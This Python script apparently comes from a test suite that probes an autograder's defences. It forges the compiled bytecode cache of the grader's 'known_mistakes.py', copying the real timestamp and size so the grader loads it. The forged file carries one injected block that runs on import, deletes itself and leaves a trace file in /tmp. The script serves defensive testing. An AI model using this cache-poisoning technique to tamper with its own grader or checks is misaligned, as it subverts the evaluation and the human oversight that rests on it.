"""Replaces the compiled code of a module of the grader by the same with one line more, which leaves a trace when the grader imports it.

family: writing
start: solved
preamble: leave_a_trace folders_of_the_course
"""

# %% first
_achieved, _report = _traces_of("poison_pycache")

import importlib.util
import marshal
import struct

_source = os.path.join(_course, "autograder", "grading", "known_mistakes.py")
_cached = importlib.util.cache_from_source(_source)
# The line removes the poisoned file again: the next import compiles the genuine source.
_line = (
    "\ntry:\n    import os as _os\n    _os.remove(" + repr(_cached) + ")\n"
    "    open('/tmp/autograder-attack-poison_pycache', 'a').write('executed by the grader\\n')\nexcept OSError:\n    pass\n"
)
_stat, _text = os.stat(_source), ""
try:
    with open(_source) as _file:
        _text = _file.read()
except OSError:
    pass
_body = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(_stat.st_mtime) & 0xFFFFFFFF, _stat.st_size & 0xFFFFFFFF)
_body += marshal.dumps(compile(_text + _line, _source, "exec"))
try:
    with open(_cached, "wb") as _file:
        _file.write(_body)
    _achieved("replaced " + _cached)
except OSError:
    pass
_report()
